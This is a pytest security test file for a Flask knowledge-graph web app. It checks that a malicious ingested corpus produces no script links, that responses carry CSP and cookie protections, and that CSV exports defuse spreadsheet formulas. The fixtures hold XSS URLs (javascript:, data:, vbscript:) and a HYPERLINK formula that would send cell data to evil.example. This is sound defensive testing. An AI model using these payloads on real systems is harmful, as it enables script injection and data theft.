"""The holes a probe found (issue 22, items 2, 7, 8), over a malicious corpus ingested
through the real loaders (tests/web/evil_corpus.py):

- no page links to a `javascript:` address, wherever the document's URL came from;
- every response carries the CSP (no inline script), the framing, sniffing and Referer
  headers, and the session cookie is SameSite=Lax and HttpOnly;
- no CSV the UI writes has a cell a spreadsheet would run as a formula, while the SPARQL
  protocol's CSV for machine clients stays standard."""
from __future__ import annotations

import csv
import io
import re
import sys
from html.parser import HTMLParser
from pathlib import Path
from typing import Iterator
from urllib.parse import urlencode, urlsplit

import pytest
from flask import Flask
from flask.testing import FlaskClient

from kg.csvsafe import needs_quote
from kg.read.graph import KnowledgeGraph
from kg.write.pipeline import ensure_gazetteer, ingest_documents, ingest_paths
from kg.settings import Settings
from web import create_app
from web.security import http_url

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
if str(FIXTURES) not in sys.path:
    sys.path.insert(0, str(FIXTURES))
from evil_corpus import STORED, write_corpus  # noqa: E402

BASE = "http://kg.test/"
TOKEN = "업로드-token-1"
FORMULA_NAMES = ["=1+1 자율제조 전략", "@SUM 수출 계획", "+CMD 반도체 지원 방안"]
OLD_SOURCE = """PREFIX dcterms: <http://purl.org/dc/terms/>
DELETE { GRAPH ?d { ?d dcterms:source ?s } } INSERT { GRAPH ?d { ?d dcterms:source <javascript:alert(6)> } }
WHERE { GRAPH ?d { ?d dcterms:title "=1+1 예전 문서" ; dcterms:source ?s } }"""
LABELS = "PREFIX skos: <http://www.w3.org/2004/02/skos/core#> SELECT ?l WHERE { ?s skos:prefLabel ?l } ORDER BY ?l"


@pytest.fixture(scope="module")
def evil_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Flask]:
    tmp = tmp_path_factory.mktemp("evil")
    s = Settings(data_dir=tmp / "data", base_iri=BASE, upload_token=TOKEN)
    with KnowledgeGraph(s) as kg:
        ensure_gazetteer(kg)
        report = ingest_paths(kg, [write_corpus(tmp / "corpus")])
        assert report.ok and report.ingested == 6, report.failed
        assert ingest_documents(kg, [STORED]).ingested == 1  # as an older version stored it: the index
        kg.store.untracked_write()  # and the graph, before mapping kept only http(s) addresses as IRIs
        kg.store.oxigraph.update(OLD_SOURCE)
        kg.publish()
    app = create_app(s, query_workers=0)
    app.config["TESTING"] = True
    yield app
    app.extensions["upload"].close()
    app.extensions["kg"].close()


@pytest.fixture()
def client(evil_app: Flask) -> FlaskClient:
    return evil_app.test_client()


class _Links(HTMLParser):
    """Every address an element carries (href, src, action, formaction)."""

    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []
        self.inline_scripts = 0
        self.handlers: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        a = dict(attrs)
        self.urls += [v for k, v in attrs if k in ("href", "src", "action", "formaction") and v is not None]
        self.handlers += [k for k in a if k.startswith("on")]
        if tag == "script" and "src" not in a and a.get("type") != "application/json":
            self.inline_scripts += 1


def _crawl(client: FlaskClient, seeds: list[str], limit: int = 70) -> dict[str, tuple[object, str]]:
    """The seeds and the pages reachable from them through plain local links (bounded):
    path → (response, body)."""
    seen: dict[str, tuple[object, str]] = {}
    todo = list(seeds)
    while todo and len(seen) < limit:
        path = todo.pop(0)
        if path in seen:
            continue
        r = client.get(path)
        body = r.get_data(as_text=True)
        seen[path] = (r, body)
        if r.mimetype != "text/html":
            continue
        p = _Links()
        p.feed(body)
        for u in p.urls:
            # pages, not their variants (facets, sorting: the seeds have those) nor downloads
            if u.startswith("/") and "?" not in u and not re.search(r"\.(csv|json|js|css)$|^/(vendor|static)/", u):
                todo.append(u.split("#")[0])
    return seen


SEEDS = ["/", "/search?q=발표", "/search?q=전략", "/search?q=", "/entities", "/entities?type=INITIATIVE",
         "/query?" + urlencode({"query": LABELS}), "/stats", "/upload", "/sparql", "/no/such/page"]


@pytest.fixture(scope="module")
def pages(evil_app: Flask) -> dict[str, tuple[object, str]]:
    return _crawl(evil_app.test_client(), SEEDS)


def _browser_form(url: str) -> str:
    """What a browser makes of an address before it looks at the scheme."""
    return re.sub(r"[\t\n\r]", "", url).strip("".join(chr(c) for c in range(0x21))).lower()


def test_crawl_reaches_the_documents_and_entities_of_the_corpus(pages) -> None:
    paths = list(pages)
    assert sum(p.startswith("/id/doc/") for p in paths) >= 5, "\n".join(paths)
    assert any(p.startswith("/id/initiative/") for p in paths), "\n".join(paths)
    assert any(p.endswith("/network") for p in paths), paths


def test_no_page_links_to_a_script_address(pages) -> None:
    for path, (r, body) in pages.items():
        if r.mimetype != "text/html":
            continue
        p = _Links()
        p.feed(body)
        bad = [u for u in p.urls if urlsplit(_browser_form(u)).scheme not in ("", "http", "https")]
        assert not bad, (path, bad)
        assert p.inline_scripts == 0 and not p.handlers, path  # the CSP would block them
        assert "javascript:" not in body.lower() or path.startswith("/id/doc/"), path


def test_script_address_is_shown_as_text_and_http_stays_a_link(client) -> None:
    hits = client.get("/search.json?q=문서").get_json()["hits"]
    old = next(h for h in hits if h["title"] == "=1+1 예전 문서")
    html = client.get("/search?q=문서").get_data(as_text=True)
    assert 'href="javascript' not in html.lower() and old["title"] in html  # the hit is listed, unlinked
    ok = client.get("/search?q=탄소중립").get_data(as_text=True)
    assert 'href="https://example.kr/news/ok" rel="nofollow noopener">원문</a>' in ok  # the original address


def test_loaders_keep_a_script_address_only_as_text(evil_app) -> None:
    kg = evil_app.extensions["kg"].kg
    hits = kg.search("발표", page_size=50).hits
    urls = {h.title: h.url for h in hits}
    assert urls["-2+3 정상 문서"] == "https://example.kr/news/ok"
    assert all(u is None for t, u in urls.items() if t != "-2+3 정상 문서" and t != "=1+1 예전 문서"), urls


def _addresses(data: object, key: str = "") -> Iterator[tuple[str, object]]:
    """Every (key, value) under a key that names an address or a citation, however deep."""
    if isinstance(data, dict):
        for k, v in data.items():
            yield from _addresses(v, k)
    elif isinstance(data, list):
        for v in data:
            yield from _addresses(v, key)
    elif key in ("url", "cite", "href", "page", "source"):
        yield key, data


def test_json_and_csv_twins_give_no_script_address_either(client, pages) -> None:
    """What the pages refuse to link, their JSON twins and CSVs do not offer as an address:
    a search hit's and a document's url is http(s) or none, and a citation names none."""
    hits = client.get("/search.json?q=문서&page_size=50").get_json()["hits"]
    old = next(h for h in hits if h["title"] == "=1+1 예전 문서")
    assert old["url"] is None and all(h["url"] is None or h["url"].startswith("https://") for h in hits)
    rows = list(csv.DictReader(io.StringIO(client.get("/search.csv?q=문서").get_data(as_text=True).lstrip("\ufeff"))))
    assert rows and not [r["url"] for r in rows if r["url"] and not r["url"].startswith("https://")]

    doc = client.get(old["page"] + ".json").get_json()
    assert doc["url"] is None and doc["url_text"] == "javascript:alert(6)"  # the address, as text only
    html = client.get(old["page"]).get_data(as_text=True)
    assert "javascript:alert(6) <small>(링크로 열지 않는 주소)</small>" in html and 'href="javascript' not in html

    checked = 0
    for path, (r, _) in pages.items():
        if r.mimetype != "text/html" or r.status_code != 200 or path.startswith("/query"):
            continue
        twin = client.get(path, headers={"Accept": "application/json"})
        for key, value in _addresses(twin.get_json()):
            checked += 1
            assert not (isinstance(value, str) and "javascript:" in value.lower()), (path, key, value)
    assert checked > 100


def test_loaders_keep_the_address_in_meta(tmp_path: Path) -> None:
    from ingest.loaders import load_path  # noqa: PLC0415

    docs = [d for f in sorted(write_corpus(tmp_path).iterdir()) for d in load_path(f)]
    texts = {d.title: (d.url, d.meta.get("url_text")) for d in docs}
    assert texts["@피드 항목"] == (None, "javascript:alert(4)")
    assert texts["@SUM(A1:A9) 수출 동향"] == (None, "JaVaScRiPt:alert(1)")
    assert texts["-2+3 정상 문서"] == ("https://example.kr/news/ok", None)
    assert all(u is None for t, (u, _) in texts.items() if t != "-2+3 정상 문서")


@pytest.mark.parametrize("url, href", [
    ("https://example.kr/a?b=1", "https://example.kr/a?b=1"),
    ("  HTTP://example.kr/", "HTTP://example.kr/"),
    ("javascript:alert(1)", ""),
    ("JaVaScRiPt:alert(1)", ""),
    (" \tjava\tscript:alert(1)", ""),
    ("data:text/html,<script>alert(1)</script>", ""),
    ("vbscript:msgbox", ""),
    ("//evil.example/", ""),
    ("/local/path", ""),
    ("http:/x", ""),
    (None, ""),
])
def test_http_url_filter(url, href) -> None:
    assert http_url(url) == href


SECURITY_HEADERS = {
    "X-Frame-Options": "DENY",
    "X-Content-Type-Options": "nosniff",
    "Referrer-Policy": "strict-origin-when-cross-origin",
}


def _check_headers(path: str, r) -> None:  # noqa: ANN001
    csp = r.headers.get("Content-Security-Policy", "")
    directives = {d.split()[0]: d.split()[1:] for d in csp.split(";") if d.strip()}
    assert directives.get("script-src") == ["'self'"], (path, csp)
    assert directives.get("frame-ancestors") == ["'none'"], (path, csp)
    assert directives.get("object-src") == ["'none'"], (path, csp)
    assert "'unsafe-inline'" not in directives.get("style-src", []), (path, csp)
    for name, value in SECURITY_HEADERS.items():
        assert r.headers.get(name) == value, (path, name, r.headers.get(name))


def test_every_page_has_the_security_headers(pages) -> None:
    assert len(pages) > 20
    for path, (r, _) in pages.items():
        _check_headers(path, r)


@pytest.mark.parametrize("path", ["/entities.csv", "/search.json?q=발표", "/api/stats", "/static/style.css",
                                  "/static/network.js", "/sparql?" + urlencode({"query": "ASK {}"}),
                                  "/no/such/page.json"])
def test_every_kind_of_response_has_the_security_headers(client, path) -> None:
    with client.get(path) as r:  # static files are streamed: close them
        _check_headers(path, r)


def test_error_and_post_answers_have_the_headers(client) -> None:
    _check_headers("DELETE /search", client.delete("/search"))
    _check_headers("POST /sparql", client.post("/sparql", data={"query": "SELECT"}))


def test_only_the_editor_page_gets_a_style_nonce_and_each_answer_a_new_one(client) -> None:
    nonces = []
    for _ in range(2):
        r = client.get("/query")
        m = re.search(r'<meta name="csp-nonce" content="([^"]+)">', r.get_data(as_text=True))
        assert m and f"style-src 'self' 'nonce-{m.group(1)}';" in r.headers["Content-Security-Policy"]
        nonces.append(m.group(1))
    assert nonces[0] != nonces[1]
    assert "nonce-" not in client.get("/search?q=발표").headers["Content-Security-Policy"]


def test_session_cookie_is_samesite_lax_and_httponly(client) -> None:
    r = client.get("/upload")
    cookie = r.headers.get("Set-Cookie", "")
    assert cookie.startswith("session="), cookie
    assert "SameSite=Lax" in cookie and "HttpOnly" in cookie, cookie


def test_session_cookie_is_secure_when_the_public_address_is_https(tmp_path: Path) -> None:
    """With KG_BASE_IRI on https (the public address, behind a TLS proxy) the login cookie
    is sent over https only; on http (this machine, the default) it still works."""
    for base, secure in (("https://kg.example.org/", True), ("http://kg.test/", False)):
        app = create_app(Settings(data_dir=tmp_path / base.split(":")[0], base_iri=base, upload_token=TOKEN),
                         query_workers=0)
        try:
            cookie = app.test_client().get("/upload").headers.get("Set-Cookie", "")
        finally:
            app.extensions["upload"].close()
            app.extensions["kg"].close()
        assert cookie.startswith("session=") and ("; Secure" in cookie) is secure, (base, cookie)


# -- CSV ----------------------------------------------------------------------------------
def _cells(r) -> list[str]:  # noqa: ANN001
    assert r.status_code == 200, r.get_data(as_text=True)[:300]
    text = r.get_data(as_text=True).lstrip("\ufeff")
    delimiter = "\t" if r.mimetype == "text/tab-separated-values" else ","
    return [c for row in csv.reader(io.StringIO(text), delimiter=delimiter) for c in row]


def _entity_paths(client: FlaskClient) -> list[str]:
    rows = client.get("/entities.json?type=INITIATIVE").get_json()["results"]
    return [e["page"] for e in rows if e["label"] in FORMULA_NAMES]


def _csvs(client: FlaskClient) -> list[str]:
    ents = _entity_paths(client)
    assert len(ents) == 3, ents
    docs = [h["page"] for h in client.get("/search.json?q=발표").get_json()["hits"]]
    return ["/entities.csv", "/entities.csv?type=INITIATIVE", "/search.csv?q=발표", "/search.csv?q=문서",
            *[e + ".csv" for e in ents], *[e + "/network.csv" for e in ents], *[d + ".csv" for d in docs],
            "/sparql?" + urlencode({"query": LABELS, "format": "csv", "download": "1"})]


def test_no_csv_cell_starts_a_formula(client) -> None:
    seen = ""
    for path in _csvs(client):
        cells = _cells(client.get(path))
        bad = [c for c in cells if needs_quote(c)]
        assert not bad, (path, bad)
        seen += "\n".join(cells)
    for name in FORMULA_NAMES + ['=HYPERLINK("http://evil.example/?x="&A1,"보기") 전략', "@SUM(A1:A9) 수출 동향"]:
        assert "'" + name in seen, name  # neutralised, not dropped


def test_sparql_download_tsv_quotes_inside_the_literal(client) -> None:
    r = client.get("/sparql", query_string={"query": LABELS, "format": "tsv", "download": "1"})
    lines = r.get_data(as_text=True).splitlines()
    assert "\"'=1+1 자율제조 전략\"@ko" in lines and "\"'@SUM 수출 계획\"@ko" in lines


def test_sparql_protocol_csv_stays_standard_for_machines(client) -> None:
    r = client.get("/sparql", query_string={"query": LABELS}, headers={"Accept": "text/csv"})
    assert "=1+1 자율제조 전략" in _cells(r)
    r = client.get("/sparql", query_string={"query": LABELS}, headers={"Accept": "text/tab-separated-values"})
    assert "\"=1+1 자율제조 전략\"@ko" in r.get_data(as_text=True).splitlines()


def test_plain_numbers_are_left_alone(client) -> None:
    q = 'SELECT ?n ?s ?f WHERE { VALUES (?n ?s ?f) { (-12 "-3.5" "-1+2") } }'
    r = client.get("/sparql", query_string={"query": q, "format": "csv", "download": "1"})
    assert _cells(r)[3:] == ["-12", "-3.5", "'-1+2"]

